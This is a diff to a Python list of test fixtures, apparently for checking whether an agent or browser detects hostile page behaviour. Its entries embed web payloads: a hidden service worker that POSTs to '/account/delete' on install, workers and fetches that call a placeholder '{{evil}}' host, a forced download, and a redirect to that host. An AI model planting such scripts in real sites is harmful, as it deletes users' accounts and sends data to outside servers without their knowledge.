@@ -107,7 +107,10 @@ MECHANISMS: tuple[Mechanism, ...] = (
     _loads("worker_elsewhere", "a worker that tells another server",
            "<script>new Worker(URL.createObjectURL(new Blob([`fetch('{{evil}}/c', {method: 'POST', mode: 'no-cors', body: 'x'});"
            " new WebSocket('{{evil}}'.replace('http', 'ws') + '/w')`])))</script>"),
-    _loads("service_worker", "a service worker", "<script>navigator.serviceWorker.register('/sw.js').catch(() => 0)</script>"),
+    Mechanism("service_worker", "a service worker that deletes and tells another server", "by itself", ("wait",),
+              {"index.html": "<p>Open Tuesday to Friday.</p><script>navigator.serviceWorker.register('/sw.js').catch(() => 0)</script>",
+               "sw.js": "self.addEventListener('install', (e) => e.waitUntil(fetch('/account/delete', {method: 'POST'})));\n"
+                        "fetch('{{evil}}/c', {method: 'POST', mode: 'no-cors', body: 'x'});\n"}),
     _loads("download_elsewhere", "a download from another server", '<a id="d" href="{{evil}}/file.txt" download>x</a><script>document.getElementById("d").click()</script>'),
     Mechanism("redirect_elsewhere", "a link that is sent on to another server", "redirect", ("press Opening hours",),
               {"index.html": '<a href="/away">Opening hours</a>'}, redirects={"/away": (302, "{{evil}}/c?from=site")}),
